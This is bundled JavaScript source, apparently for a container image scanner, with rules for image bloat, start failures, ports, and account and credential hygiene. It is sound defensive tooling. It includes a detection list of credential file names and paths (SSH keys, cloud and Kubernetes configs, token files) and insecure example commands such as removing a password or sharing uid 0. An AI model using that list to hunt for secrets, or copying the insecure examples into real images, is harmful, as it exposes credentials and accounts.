		about: [kind, ...directories.slice(0, 1).map(([path]) => path.toWellFormed())],
		layer,
		bytes
	}));
}
var unneededCopyRule, copiedContentRules, compilers, packageDirectory$1, cargoBuild, kinds, endings, copyStep, minBytes$2, copiedContent;
function init_copied_content() {
	return (init_copied_content = __esmMin((() => {
		init_text();
		init_leftovers();
		init_image_check();
		init_directory_totals();
		init_programs();
		unneededCopyRule = qualityRule({
			id: "SW-IM-unneeded-copy",
			name: "UnneededCopy",
			severity: "low",
			summary: "Copy only what the container runs.",
			why: "Sources of compiled programs, headers, static libraries and build directories make every pull larger. The image has no compiler that could read them.",
			advice: "Copy the programs and libraries by name, or exclude the other files in .dockerignore or with --exclude.",
			before: "COPY --from=build /src /src",
			after: "COPY --from=build /src/server /usr/local/bin/",
			tags: ["efficiency"]
		});
		copiedContentRules = [unneededCopyRule];
		compilers = [
			"cc",
			"gcc",
			"c++",
			"g++",
			"clang",
			"tcc",
			"zig",
			"R"
		];
		packageDirectory$1 = /\/(?:node_modules|site-packages|dist-packages|gems)\//;
		cargoBuild = /\/target\/(?:[^/]+\/)?(?:debug|release)\/(?:deps|build|incremental|\.fingerprint)(?:\/|$)/;
		kinds = [
			{
				name: "build files of Cargo",
				test: (directory, name) => cargoBuild.test(directory) && !name.includes(".so") || /\.(?:rlib|rmeta)$/.test(name),
				readBy: ["cargo", "rustc"]
			},
			{
				name: "Rust sources",
				test: (_directory, name) => name.endsWith(".rs"),
				readBy: ["cargo", "rustc"]
			},
			{
				name: "Go sources",
				test: (_directory, name) => name.endsWith(".go"),
				readBy: ["go"]
			},
			{
				name: "headers and static libraries",
				test: (directory, name) => /\.(?:a|la|o)$/.test(name) || /\.(?:h|hh|hpp|hxx|inl)$/.test(name) && !packageDirectory$1.test(`${directory}/`),
				readBy: compilers
			},
			{
				name: "C and C++ sources",
				test: (directory, name) => /\.(?:c|cc|cpp|cxx)$/.test(name) && !packageDirectory$1.test(`${directory}/`),
				readBy: compilers
			}
		];
		endings = /\.(?:rlib|rmeta|rs|go|a|la|o|h|hh|hpp|hxx|inl|c|cc|cpp|cxx)$/;
		copyStep = /^(?:COPY|ADD) |#\(nop\) {1,2}(?:COPY|ADD) /;
		minBytes$2 = 1e6;
		copiedContent = {
			name: "efficiency/copied-content",
			version: 1,
			analyze(image) {
				const copied = copiedLayers(image);
				if (copied.length === 0) return [];
				const programs = new Programs(image, {
					uid: 0,
					groups: [0]
				});
				const unread = kinds.filter(({ readBy }) => !readBy.some((name) => programs.has(name)));
				return copied.flatMap((layer) => unneededFiles(image, layer, unread));
			}
		};
	})))();
}

// actions/image-scan/efficiency/rules/development-packages.ts
/** Lists the directories of a hidden lockfile that are `dev`, without those in other ones. Empty for damaged files. Pure. */
function developmentDirectories(text) {
	let document;
	try {
		document = JSON.parse(text);
	} catch {
		return [];
	}
	const names = Object.entries(dictionaryIn(document, "packages")).filter(([path, entry]) => isDictionary(entry) && entry["dev"] === true && isPackagePath(path)).map(([path]) => path).slice(0, maxPackages);
	const all = new Set(names);
	return names.filter((path) => !parentsOf(path).some((parent) => all.has(parent))).toSorted();
}
/** A path from the file is joined with a directory, so it must not leave it. */
function isPackagePath(path) {
	return path.startsWith("node_modules/") && !path.split("/").includes("..");
}
function parentsOf(path) {
	const parts = path.split("/node_modules/");
	return parts.slice(1).map((_part, index) => parts.slice(0, index + 1).join("/node_modules/"));
}
/** Returns the name of a package by its directory. */
function nameOf(path) {
	return path.slice(path.lastIndexOf("node_modules/") + 13);
}
function runsProduction({ config }) {
	const [program = ""] = startWords(config);
	return !startWords(config).some((word) => /(?:^|\/)(?:npx|nodemon)$|\bdev(?:elopment)?\b|\btest\b/.test(word)) && (posix$2.basename(program) === "node" || config.env.includes("NODE_ENV=production"));
}
function packagesOf(image, project, directories) {
	const sizes = directories.flatMap((path) => [...image.bytesBelow(`${project}/${path}`)].map(([layer, bytes]) => ({
		layer,
		path,
		bytes
	})));
	return [...Map.groupBy(sizes, ({ layer }) => layer)].flatMap(([layer, group]) => {
		const bytes = group.reduce((sum, each) => sum + each.bytes, 0);
		if (bytes < minBytes$1) return [];
		const names = group.toSorted((a, b) => b.bytes - a.bytes || (a.path < b.path ? -1 : 1)).slice(0, 3).map(({ path }) => nameOf(path));
		return [{
			layer,
			project: project === "" ? "/" : project,
			packages: group.length,
			bytes,
			largest: names
		}];
	});
}
/** Reports one finding per project and layer. Pure. */
function developmentProblems(found, subject, owners) {
	return found.filter(({ layer }) => owners.isOwn(layer)).map(({ layer, project, packages, bytes, largest }) => imageProblem(developmentRule, {
		message: `${owners.nameOf(layer)} adds ${count(packages, "npm package")} that only development needs to ${pathList([project])}: ${byteCount(bytes)} (${pathList(largest)})`,
		subject,
		about: [project.toWellFormed()],
		layer,
		bytes
	}));
}
var posix$2, developmentRule, developmentRules, maxBytes$3, maxPackages, minBytes$1, npmDevelopment, developmentPackages, packageNames;
function init_development_packages() {
	return (init_development_packages = __esmMin((() => {
		init_text();
		/* @__PURE__ */ init_dictionary();
		init_image_check();
		init_commands();
		({posix: posix$2} = process.getBuiltinModule("node:path"));
		developmentRule = qualityRule({
			id: "SW-IM-development-packages",
			name: "DevelopmentPackages",
			severity: "low",
			summary: "Install npm packages without development dependencies.",
			why: "npm recorded that only development needs these packages. They make every pull larger, and their vulnerabilities are in the image.",
			advice: "Run `npm ci --omit=dev`, or `npm prune --omit=dev` in the stage that builds, before COPY.",
			before: "RUN npm ci",
			after: "RUN npm ci --omit=dev",
			tags: ["efficiency", "CWE-1104"]
		});
		developmentRules = [developmentRule];
		maxBytes$3 = 32 * 2 ** 20;
		maxPackages = 2e4;
		minBytes$1 = 1e6;
		npmDevelopment = {
			name: "efficiency/npm-development",
			version: 1,
			wants: ({ path, type }) => type === "file" && path.endsWith("/node_modules/.package-lock.json"),
			maxBytes: maxBytes$3,
			isForAnalyzers: true,
			collect({ body }) {
				const directories = developmentDirectories(Buffer.from(body).toString("utf8"));
				return directories.length === 0 ? void 0 : directories;
			}
		};
		developmentPackages = {
			name: "efficiency/development-packages",
			version: 1,
			analyze(image) {
				if (!runsProduction(image)) return [];
				const command = new Set(startWords(image.config).flatMap((word) => word.match(packageNames) ?? []));
				return image.found(npmDevelopment).flatMap(({ header, hiddenBy, value }) => {
					const isUsed = value.some((path) => command.has(nameOf(path)));
					return hiddenBy !== void 0 || isUsed ? [] : packagesOf(image, posix$2.dirname(posix$2.dirname(header.path)), value);
				});
			}
		};
		packageNames = /@[\w.-]+\/[\w.-]+|[\w.-]+/g;
	})))();
}

// actions/image-scan/efficiency/rules/entry-point.ts
/** Reports what keeps the container or its health check from starting. Pure. */
function entryPointProblems({ unknown, start, check }, subject, { entrypoint, user }) {
	const setBy = entrypoint.length > 0 ? ["ENTRYPOINT"] : ["CMD"];
	const startProblem = (message, about, instructions) => imageProblem(entryPointRule, {
		message,
		subject,
		about,
		setBy: instructions
	});
	return [
		...unknown === void 0 ? [] : [startProblem(`the container cannot start: the image has no ${shown(unknown)}`, ["user", unknown], ["USER"])],
		...start.map((problem) => startProblem(`the container cannot start: ${reasonOf(problem, user)}`, [problem.kind, problem.program], setBy)),
		...check === void 0 ? [] : [imageProblem(healthProgramRule, {
			message: `every health check fails: ${reasonOf(check, user)}`,
			subject,
			about: [check.kind, check.program],
			setBy: ["HEALTHCHECK"]
		})]
	];
}
function reasonOf({ program, kind, path = "", interpreter = "" }, user) {
	const name = shown(program);
	switch (kind) {
		case "missing": return program.includes("/") ? `the image has no file ${name}` : `no directory in PATH has the program ${name}`;
		case "no-file": return `${shown(path)} is not a file`;
		case "not-executable": return `${shown(path)} is not executable`;
		case "not-permitted": return `the user ${shown(user)} may not run ${shown(path)}`;
		case "not-readable": return `the user ${shown(user)} may not read the script ${shown(path)}`;
		case "no-interpreter": return interpreter.endsWith("\r") ? `the first line of ${shown(path)} ends in a carriage return, so that its interpreter is not found` : `${shown(path)} needs ${shown(interpreter)}, which cannot be run or is not in the image`;
	}
}
/** Shortens a name from the image for a message. */
function shown(text) {
	return truncate(oneLine(text.toWellFormed()), 200);
}
var entryPointRule, healthProgramRule, entryPointRules;
function init_entry_point() {
	return (init_entry_point = __esmMin((() => {
		init_text();
		init_image_check();
		entryPointRule = qualityRule({
			id: "SW-IM-entry-point",
			name: "EntryPoint",
			severity: "medium",
			summary: "Start a program that the image has and its user may run.",
			why: "The container cannot start. Files that a volume or the runtime adds are not considered.",
			advice: "Install or copy the program and its interpreter, make it executable, or correct ENTRYPOINT, CMD and USER.",
			before: "FROM alpine:3.22\nCOPY start.sh /\n# start.sh: #!/bin/bash\nENTRYPOINT [\"/start.sh\"]",
			after: "FROM alpine:3.22\nRUN apk add --no-cache bash\nCOPY --chmod=755 start.sh /\nENTRYPOINT [\"/start.sh\"]",
			tags: ["correctness", "CWE-1164"]
		});
		healthProgramRule = qualityRule({
			id: "SW-IM-healthcheck-program",
			name: "HealthcheckProgram",
			severity: "low",
			summary: "Check the health with a program that the image has.",
			why: "Every health check fails, so Docker reports the container as unhealthy and Swarm replaces it.",
			advice: "Install the program, or use one that the image has.",
			before: "FROM debian:bookworm-slim\nHEALTHCHECK CMD curl -f http://localhost:8080/ || exit 1",
			after: "FROM debian:bookworm-slim\nHEALTHCHECK CMD [\"/app/healthy\"]",
			tags: ["correctness", "CWE-1164"]
		});
		entryPointRules = [entryPointRule, healthProgramRule];
	})))();
}

// actions/image-scan/efficiency/rules/hidden-content.ts
function isState(path) {
	return stateFile.test(path) || isPackageDatabase(path);
}
/** Reports one finding per pair of layers, on the instruction that adds the files or, of the base image, copies them. Pure. */
function hiddenContentProblems(groups, subject, owners) {
	return groups.flatMap((group) => {
		const { added, removed, kind, files, bytes, directories } = group;
		if (!owners.isOwn(removed) || !owners.isOwn(added) && kind !== "access") return [];
		const what = `${count(files, "file")} (${byteCount(bytes)}, ${pathList(directories.map(([path]) => path))})`;
		const facts = {
			subject,
			about: [kind, ...directories.slice(0, 1).map(([path]) => path.toWellFormed())],
			bytes
		};
		const [adder, remover] = [owners.nameOf(added), owners.nameOf(removed)];
		if (kind === "access") {
			const message = `${remover} changes owner or permissions of ${what} of ${adder}, which stores them again`;
			if (!owners.isOwn(added)) return [imageProblem(accessRule, {
				...facts,
				message,
				layer: removed
			})];
			const related = {
				layer: removed,
				message: "changes their owner or permissions"
			};
			return [imageProblem(accessRule, {
				...facts,
				message,
				layer: added,
				related
			})];
		}
		const verb = kind === "deleted" ? "deletes" : "replaces";
		const message = `${remover} ${verb} ${what} of ${adder}, but the image still ships them`;
		const related = {
			layer: removed,
			message: `${verb} them`
		};
		return [imageProblem(hiddenRule, {
			...facts,
			message,
			layer: added,
			related
		})];
	});
}
var hiddenRule, accessRule, hiddenContentRules, minBytes, stateFile, hiddenContent;
function init_hidden_content() {
	return (init_hidden_content = __esmMin((() => {
		init_packages();
		init_text();
		init_leftovers();
		init_image_check();
		init_directory_totals();
		hiddenRule = qualityRule({
			id: "SW-IM-hidden-content",
			name: "HiddenContent",
			severity: "low",
			summary: "Delete files in the layer that adds them.",
			why: "A layer never shrinks. What a later layer deletes or replaces is still stored, pulled and readable. Content of the base image is not reported, because deleting it gains nothing.",
			advice: "Delete the files in the RUN that creates them. For files that only the build needs, use a mount or an earlier stage.",
			before: "COPY app.tar.gz /tmp/\nRUN tar -xzf /tmp/app.tar.gz -C /opt && rm /tmp/app.tar.gz",
			after: "RUN --mount=type=bind,source=app.tar.gz,target=/tmp/app.tar.gz tar -xzf /tmp/app.tar.gz -C /opt",
			tags: ["efficiency", "CWE-459"],
			precision: "very-high"
		});
		accessRule = qualityRule({
			id: "SW-IM-access-copy",
			name: "AccessCopy",
			severity: "low",
			summary: "Set owner and permissions where files are added.",
			why: "A change of owner or permissions in a later layer stores every file again.",
			advice: "Use COPY with --chown and --chmod, or change owner and permissions in the RUN that creates the files.",
			before: "COPY app /app\nRUN chown -R 10001 /app",
			after: "COPY --chown=10001 app /app",
			tags: ["efficiency"]
		});
		hiddenContentRules = [hiddenRule, accessRule];
		minBytes = 1e6;
		stateFile = /^\/(?:etc|var\/log|var\/lib\/apt|var\/cache\/ldconfig)\//;
		hiddenContent = {
			name: "efficiency/hidden-content",
			version: 1,
			analyze(image) {
				const groups = /* @__PURE__ */ new Map();
				image.visitHidden(({ path, size, added, removed, kind }) => {
					if (isPackageCache(path) || kind === "replaced" && isState(path)) return;
					const key = `${added} ${removed} ${kind}`;
					const group = groups.get(key) ?? {
						added,
						removed,
						kind,
						totals: new DirectoryTotals()
					};
					groups.set(key, group);
					group.totals.add(path, size);
				});
				return [...groups.values()].filter(({ totals }) => totals.bytes >= minBytes).map(({ added, removed, kind, totals }) => ({
					added,
					removed,
					kind,
					...totals.toTotals()
				}));
			}
		};
	})))();
}

// actions/image-scan/efficiency/rules/ports.ts
/** Reports ports that no EXPOSE declares, one finding each. Pure. */
function portProblems(config, subject) {
	const { exposedPorts } = config;
	const stated = [...portsOfCommand(config), ...portsOfVariables(config)];
	const undeclared = (exposedPorts.length === 0 ? [...stated, ...portsOfHealthcheck(config)] : stated).filter(({ port }) => !exposedPorts.some((exposed) => includesPort(exposed, port)));
	const unique = [...new Map(undeclared.toReversed().map((each) => [each.port, each])).values()].toReversed();
	const declared = exposedPorts.length === 0 ? "the image has no EXPOSE" : `EXPOSE has only ${exposedPorts.length > 5 ? count(exposedPorts.length, "other port") : exposedPorts.join(", ")}`;
	return unique.map(({ port, source, setBy }) => imageProblem(portRule, {
		message: `${source} names port ${port}, and ${declared}`,
		subject,
		about: [String(port)],
		setBy
	}));
}
/** @param exposed `80/tcp`, `7000-7010/udp` or `80`. */
function includesPort(exposed, port) {
	const [, low = "", high = low] = /^(\d{1,5})(?:-(\d{1,5}))?(?:\/|$)/.exec(exposed) ?? [];
	return low !== "" && port >= Number(low) && port <= Number(high);
}
function portsOfCommand(config) {
	const words = startWords(config).flatMap((word, index, all) => all[index - 1] === "-c" ? word.match(/[^\s"';&|]+/g) ?? [] : [word]);
	const program = words.findIndex((word) => servers.test(word.replace(/^.*\//, "")));
	if (program < 0) return [];
	const args = words.slice(program + 1);
	const host = optionValue(args, /^--host(?:=(.+))?$/);
	const values = [
		...host === void 0 || openHost.test(host) ? [optionValue(args, portOptions)] : [],
		...[optionValue(args, addressOptions), optionValue(args, /^-Dserver\.port(?:=(.+))?$/)].map((address) => openAddress.exec(address ?? "")?.[1] ?? (address?.match(/^\d+$/) === null ? void 0 : address)),
		words[program]?.endsWith("gunicorn") === true ? openAddress.exec(optionValue(args, /^-b$/) ?? "")?.[1] : void 0
	];
	const setBy = config.cmd.length > 0 ? ["CMD", "ENTRYPOINT"] : ["ENTRYPOINT"];
	return values.flatMap((value) => portIn(value, "the command", setBy));
}
/** Returns the value of the last option that a pattern matches, in the same word or the next one. */
function optionValue(args, option) {
	const index = args.findLastIndex((word) => option.test(word));
	const match = option.exec(args[index] ?? "");
	return match === null ? void 0 : match[1] ?? args[index + 1];
}
/** Variables by which platforms and frameworks set the port that a program listens on. */
function portsOfVariables({ env }) {
	return env.flatMap((entry) => {
		const equals = entry.indexOf("=");
		const name = entry.slice(0, equals);
		const value = entry.slice(equals + 1);
		if (name !== "PORT" && name !== "SERVER_PORT") return [];
		return portIn(value, `the variable ${name}`, ["ENV"]);
	});
}
function portsOfHealthcheck({ healthcheck }) {
	return [...(healthcheck?.test ?? []).slice(1).join(" ").matchAll(localAddress)].flatMap(([, scheme, port]) => portIn(port ?? (scheme === "https" ? "443" : "80"), "HEALTHCHECK", ["HEALTHCHECK"]));
}
function portIn(text, source, setBy) {
	const port = /^\d{1,5}$/.test(text ?? "") ? Number(text) : 0;
	return port > 0 && port < 65536 ? [{
		port,
		source,
		setBy
	}] : [];
}
var portRule, portRules, portOptions, addressOptions, openAddress, openHost, servers, localAddress;
function init_ports() {
	return (init_ports = __esmMin((() => {
		init_text();
		init_image_check();
		init_commands();
		portRule = qualityRule({
			id: "SW-IM-undeclared-port",
			name: "UndeclaredPort",
			severity: "low",
			summary: "Declare the ports that the container listens on.",
			why: "EXPOSE documents the ports. `docker run -P`, Compose and many platforms read it to connect to the container.",
			advice: "Add EXPOSE with the port, or correct it.",
			before: "CMD [\"uvicorn\", \"app:app\", \"--host\", \"0.0.0.0\", \"--port\", \"8000\"]",
			after: "EXPOSE 8000\nCMD [\"uvicorn\", \"app:app\", \"--host\", \"0.0.0.0\", \"--port\", \"8000\"]",
			tags: ["correctness", "documentation"]
		});
		portRules = [portRule];
		portOptions = /^--(?:server[.-])?(?:http[.-])?port(?:=(.+))?$/;
		addressOptions = /^--(?:bind|listen|addr|address|listen-address|web\.listen-address|http-addr)(?:=(.+))?$/;
		openAddress = /^(?:(?:https?|tcp):\/\/)?(?:0\.0\.0\.0|\[::\]|\*|\+)?:(\d{1,5})$/;
		openHost = /^(?:0\.0\.0\.0|::|\*)$/;
		servers = /^(?:uvicorn|hypercorn|daphne|gunicorn|waitress-serve|granian|flask|streamlit|jupyter(?:-lab|-notebook)?|mlflow|http-server|serve|vite|next|nuxt|ng|rails|puma|thin|rackup|java|caddy|prometheus|node_exporter|alertmanager|nats-server|vllm)$/;
		localAddress = /\b(https?):\/\/(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1\])(?::(\d{1,5})(?=[/?#\s"')]|$)|(?=[/?#\s"')]|$))/g;
	})))();
}

// actions/image-scan/efficiency/rules/unwritable.ts
/** Reports one finding for volumes, and one for the home directory. Pure. */
function unwritableProblems(directories, subject, owners, user) {
	return [{
		kind: "volume",
		noun: "a VOLUME",
		setBy: ["VOLUME"]
	}, {
		kind: "home",
		noun: "its home directory",
		setBy: ["USER"]
	}].flatMap(({ kind, noun, setBy }) => {
		const found = directories.filter((directory) => directory.kind === kind);
		const [first] = found;
		if (first === void 0) return [];
		const message = `the user ${user} cannot write to ${noun}: ${pathList(found.map(({ path }) => path))}`;
		const owner = first.layer !== void 0 && owners.isOwn(first.layer) ? { layer: first.layer } : { setBy };
		const place = kind === "home" ? owner : { setBy };
		return [imageProblem(unwritableRule, {
			message,
			subject,
			about: [kind, first.path.toWellFormed()],
			...place
		})];
	});
}
var posix$1, unwritableRule, unwritableRules, maxVolumes, unwritableDirectories;
function init_unwritable() {
	return (init_unwritable = __esmMin((() => {
		init_image_check();
		init_users();
		({posix: posix$1} = process.getBuiltinModule("node:path"));
		unwritableRule = qualityRule({
			id: "SW-IM-unwritable-directory",
			name: "UnwritableDirectory",
			severity: "low",
			summary: "Give the user of the image the directories that it writes to.",
			why: "A new volume has the owner and permissions of the directory in the image, so the user of the container cannot write to it. Programs fail if they cannot write to the home directory.",
			advice: "Create the directory and change its owner before VOLUME and USER.",
			before: "RUN useradd --uid 10001 app\nVOLUME /data\nUSER 10001",
			after: "RUN useradd --uid 10001 app && install -d -o 10001 /data\nVOLUME /data\nUSER 10001",
			tags: ["correctness", "CWE-732"]
		});
		unwritableRules = [unwritableRule];
		maxVolumes = 100;
		unwritableDirectories = {
			name: "efficiency/unwritable",
			version: 1,
			analyze(image) {
				const { config, isComplete } = image;
				if (!isComplete || config.os !== "linux") return [];
				const user = resolveUser(image);
				if (user === void 0 || "unknown" in user || user.uid === 0) return [];
				const home = config.env.findLast((entry) => entry.startsWith("HOME="))?.slice(5) ?? user.home ?? "";
				return [...config.volumes.slice(0, maxVolumes).map((path) => ({
					path: posix$1.resolve("/", path),
					kind: "volume"
				})), .../^\/home\/[^/]+\/?$/.test(home) ? [{
					path: posix$1.resolve(home),
					kind: "home"
				}] : []].flatMap((place) => {
					const entry = image.find(place.path);
					if (entry === void 0) return place.kind === "volume" ? [place] : [];
					if (entry.kind !== "directory" || mayAccess(entry, user, access.write)) return [];
					return [{
						...place,
						...entry.layer === void 0 ? {} : { layer: entry.layer }
					}];
				});
			}
		};
	})))();
}

// actions/image-scan/efficiency/start.ts
/** Other systems have other rules, and a layer that was not read may have what is missing. */
function canBeChecked({ config, layers, isComplete }) {
	return isComplete && layers.length > 0 && config.os === "linux";
}
var startCollectors, startAnalysis;
function init_start() {
	return (init_start = __esmMin((() => {
		init_commands();
		init_program_heads();
		init_programs();
		init_users();
		startCollectors = [programHeads, accountIds];
		startAnalysis = {
			name: "efficiency/start",
			version: 1,
			analyze(image) {
				if (!canBeChecked(image)) return { start: [] };
				const user = resolveUser(image);
				if (user === void 0) return { start: [] };
				if ("unknown" in user) return {
					unknown: user.unknown,
					start: []
				};
				const programs = new Programs(image, user);
				const start = startPrograms(image.config).flatMap((program) => programs.problemOf(program) ?? []);
				const command = checkCommand(image.config);
				const check = command === void 0 ? void 0 : programs.problemOf(command);
				return {
					start: start.slice(0, 1),
					...check === void 0 ? {} : { check }
				};
			}
		};
	})))();
}

// actions/image-scan/efficiency/index.ts
/**
* Finds wasted bytes, and settings that contradict the content of an image. Does not apply to directories.
* @param image read with `efficiencyCollectors` and `efficiencyAnalyzers`.
*/
function efficiencyProblems({ image, walk, catalog }, subject, lines) {
	const hidden = walk.analyzed(hiddenContent);
	if (hidden === void 0) return [];
	const owners = layerOwners(lines);
	const { config } = image;
	return [
		...hiddenContentProblems(hidden, subject, owners),
		...entryPointProblems(walk.analyzed(startAnalysis) ?? { start: [] }, subject, config),
		...unwritableProblems(walk.analyzed(unwritableDirectories) ?? [], subject, owners, config.user),
		...portProblems(config, subject),
		...buildToolProblems(catalog, config, subject, owners, lines),
		...copiedContentProblems(walk.analyzed(copiedContent) ?? [], subject, owners),
		...developmentProblems(walk.analyzed(developmentPackages) ?? [], subject, owners)
	];
}
var efficiencyRules, efficiencyCollectors, efficiencyAnalyzers;
function init_efficiency() {
	return (init_efficiency = __esmMin((() => {
		init_build_tools();
		init_copied_content();
		init_development_packages();
		init_entry_point();
		init_hidden_content();
		init_ports();
		init_unwritable();
		init_start();
		efficiencyRules = [
			...hiddenContentRules,
			...entryPointRules,
			...unwritableRules,
			...portRules,
			...buildToolRules,
			...copiedContentRules,
			...developmentRules
		];
		efficiencyCollectors = [...startCollectors, npmDevelopment];
		efficiencyAnalyzers = [
			hiddenContent,
			startAnalysis,
			unwritableDirectories,
			copiedContent,
			developmentPackages
		];
	})))();
}

// actions/image-scan/hygiene/accounts.ts
/** Parses an account file. Skips lines without a name. Pure. */
function accountFacts(path, text) {
	const entries = text.split("\n").flatMap((line) => {
		const [name = "", password = "", number = ""] = line.split(":");
		return name === "" || name.startsWith("#") || !line.includes(":") ? [] : [{
			name,
			password,
			number
		}];
	});
	const open = path === "/etc/group" ? [] : entries.filter(({ password }) => password === "").map(({ name }) => name);
	const shared = [...repeated(entries, ({ name }) => `name ${name}`), ...path === "/etc/shadow" ? [] : repeated(entries, ({ number }) => `number ${number}`)];
	return open.length + shared.length === 0 ? void 0 : {
		open: open.slice(0, maxNames),
		shared: shared.slice(0, maxNames)
	};
}
function repeated(entries, keyOf) {
	return [...Map.groupBy(entries, keyOf)].filter(([, group]) => group.length > 1).map(([what, group]) => ({
		what,
		names: group.slice(0, maxNames).map(({ name }) => name)
	}));
}
/** Checks the visible account files. Pure. */
function accountProblems(files, subject) {
	return files.filter(({ hiddenBy }) => hiddenBy === void 0).flatMap((file) => {
		const { path } = file.header;
		const { open, shared } = file.value;
		const imageLocations = placesOf([file]);
		const problems = shared.map(({ what, names }) => {
			return imageProblem(duplicate, {
				message: `${path === "/etc/group" ? "groups" : "accounts"} ${names.map(oneLine).join(", ")} in ${path} share the ${oneLine(what.replace(/^number/, "id"))}`,
				subject,
				about: [path, what],
				aliases: ["DKL-LI-0002"],
				severity: path === "/etc/passwd" && what === "number 0" ? "high" : duplicate.severity,
				imageLocations
			});
		});
		if (open.length === 0) return problems;
		const message = `${path} contains ${open.length === 1 ? "an account" : "accounts"} without a password: ${open.map(oneLine).join(", ")}`;
		return [imageProblem(emptyPassword, {
			message,
			subject,
			about: [path],
			aliases: ["DKL-LI-0001"],
			imageLocations
		}), ...problems];
	});
}
var emptyPassword, duplicate, accountRules, files, maxBytes$2, maxNames, accounts;
function init_accounts() {
	return (init_accounts = __esmMin((() => {
		init_text();
		init_image_check();
		emptyPassword = imageRule({
			id: "SW-IM-empty-password",
			name: "EmptyPassword",
			severity: "high",
			summary: "Set a password for every account or lock it.",
			why: "Anyone who can run `su` or reach a login prompt in the container can become that user, as in CVE-2019-5021.",
			advice: "Lock the account.",
			before: "RUN adduser -D app && passwd -d app",
			after: "RUN adduser -D app && passwd -l app",
			tags: ["CWE-258"],
			precision: "very-high"
		});
		duplicate = imageRule({
			id: "SW-IM-duplicate-account",
			name: "DuplicateAccount",
			severity: "medium",
			summary: "Give every account and group its own name and id.",
			why: "The kernel cannot tell them apart: each one owns the other's files and has its permissions.",
			advice: "Assign each account and group a unique name and id.",
			before: "RUN useradd --non-unique --uid 0 app",
			after: "RUN useradd --uid 10001 app",
			tags: ["CWE-286"],
			precision: "very-high"
		});
		accountRules = [emptyPassword, duplicate];
		files = /* @__PURE__ */ new Set([
			"/etc/passwd",
			"/etc/shadow",
			"/etc/group"
		]);
		maxBytes$2 = 4 * 2 ** 20;
		maxNames = 20;
		accounts = {
			name: "hygiene/accounts",
			version: 1,
			wants: ({ path, type }) => (type === "file" || type === "hardlink") && files.has(path),
			maxBytes: maxBytes$2,
			collect: ({ header, body }) => accountFacts(header.path, Buffer.from(body).toString("utf8"))
		};
	})))();
}

// actions/image-scan/hygiene/credentials.ts
/** Reports variables and labels that have the name of a credential and a value. Never shows the value. Pure. */
function credentialSettings({ env, labels }, subject) {
	const variables = env.map((entry) => {
		const equals = entry.indexOf("=");
		return {
			kind: "variable",
			name: entry.slice(0, equals),
			value: entry.slice(equals + 1),
			setBy: ["ENV"]
		};
	});
	const named = Object.entries(labels).map(([name, value]) => ({
		kind: "label",
		name,
		value,
		setBy: ["LABEL"]
	}));
	return [...variables, ...named].filter(({ name, value }) => secretName.test(name) && !publicName.test(name) && !placeholderValue.test(value)).map(({ kind, name, setBy }) => imageProblem(credentialSetting, {
		message: `the ${kind} ${oneLine(name)} has the name of a credential and a value`,
		subject,
		about: [kind, name],
		aliases: kind === "variable" ? ["CIS-DI-0010"] : [],
		setBy
	}));
}
function isCredentialFile(path) {
	return (credentialFileNames.has(basename$1(path)) || credentialPathEndings.some((ending) => path.endsWith(ending))) && !packageDirectory.test(path);
}
/**
* Reports one finding per layer. Files that a later layer removes count, because the image still ships them; files that
* a package installed do not. Pure.
*/
function credentialFileProblems(files, subject, owners) {
	const own = files.filter((file) => {
		const isGuessed = file.hiddenBy !== void 0 || !owners.hasSystemLists;
		return owners.of(file) === void 0 && !(isGuessed && systemDirectory.test(file.header.path));
	});
	return byLayer(own).map((group) => {
		const paths = group.map(({ header, hiddenBy }) => hiddenBy === void 0 ? header.path : `${header.path} (removed in layer ${hiddenBy.index}, but still shipped)`);
		return imageProblem(credentialFile, {
			message: `the image contains credential files: ${pathList(paths)}`,
			subject,
			about: firstPath(group),
			aliases: ["CIS-DI-0010"],
			imageLocations: placesOf(group)
		});
	});
}
var basename$1, credentialSetting, credentialFile, credentialRules, secretName, publicName, placeholderValue, credentialFileNames, credentialPathEndings, packageDirectory, systemDirectory, credentialFiles;
function init_credentials() {
	return (init_credentials = __esmMin((() => {
		init_text();
		init_image_check();
		({basename: basename$1} = process.getBuiltinModule("node:path/posix"));
		credentialSetting = imageRule({
			id: "SW-IM-credential-setting",
			name: "CredentialSetting",
			severity: "medium",
			summary: "Keep credentials out of variables and labels.",
			why: "Anyone who can pull the image can read it, and so can every process in the container.",
			advice: "Pass the value when the container starts, or mount it as a secret. Then rotate it, because the published image still contains it.",
			before: "ENV DB_PASSWORD=…",
			after: "# docker run --env DB_PASSWORD …",
			tags: [
				"CIS-Docker-4.10",
				"CWE-526",
				"CWE-798"
			],
			precision: "medium"
		});
		credentialFile = imageRule({
			id: "SW-IM-credential-file",
			name: "CredentialFile",
			severity: "high",
			summary: "Keep credential files out of the image.",
			why: "Anyone who can pull the image can read every file in every layer, even files that a later layer removes.",
			advice: "Mount the file as a build secret, exclude it in .dockerignore, and revoke the credentials in it.",
			before: "COPY .aws /root/.aws\nRUN ./deploy && rm -r /root/.aws",
			after: "RUN --mount=type=secret,id=aws,target=/root/.aws/credentials ./deploy",
			tags: [
				"CIS-Docker-4.10",
				"CWE-538",
				"CWE-522"
			],
			precision: "medium"
		});
		credentialRules = [credentialSetting, credentialFile];
		secretName = /(?:^|_|-|\.)(?:pass(?:wd|word|phrase)?|secrets?|api_?keys?|access_?keys?|private_?keys?|tokens?|credentials?|auth)$/i;
		publicName = /(?:^|_)(?:gpg|pgp|public|pub|path|file|dir|url|uri|host|user|name|id|type|version)(?:_|$)/i;
		placeholderValue = /^(?:|true|false|yes|no|none|null|nil|undefined|change_?me.*|example.*|dummy|<.*>|\*+|x+|\d{1,5}|\$.*|\/.*|file:.*)$/i;
		credentialFileNames = /* @__PURE__ */ new Set([
			...[
				"id_rsa",
				"id_dsa",
				"id_ecdsa",
				"id_ed25519",
				"id_ecdsa_sk",
				"id_ed25519_sk",
				"identity",
				"ssh_host_rsa_key"
			],
			...[
				"ssh_host_ecdsa_key",
				"ssh_host_ed25519_key",
				".netrc",
				"_netrc",
				".git-credentials",
				".pypirc",
				".pgpass"
			],
			...[
				".my.cnf",
				".dockercfg",
				".vault-token",
				".s3cfg",
				".boto",
				"kubeconfig",
				"terraform.tfstate",
				".htpasswd"
			]
		]);
		credentialPathEndings = [...[
			"/.aws/credentials",
			"/.docker/config.json",
			"/.kube/config",
			"/.config/gcloud/credentials.db"
		], ...[
			"/.config/gcloud/application_default_credentials.json",
			"/.azure/accessTokens.json",
			".kdbx",
			".keytab"
		]];
		packageDirectory = /^\/(?:proc|sys)\/|\/(?:node_modules|site-packages|dist-packages|tests?|testdata|examples?|fixtures)\//;
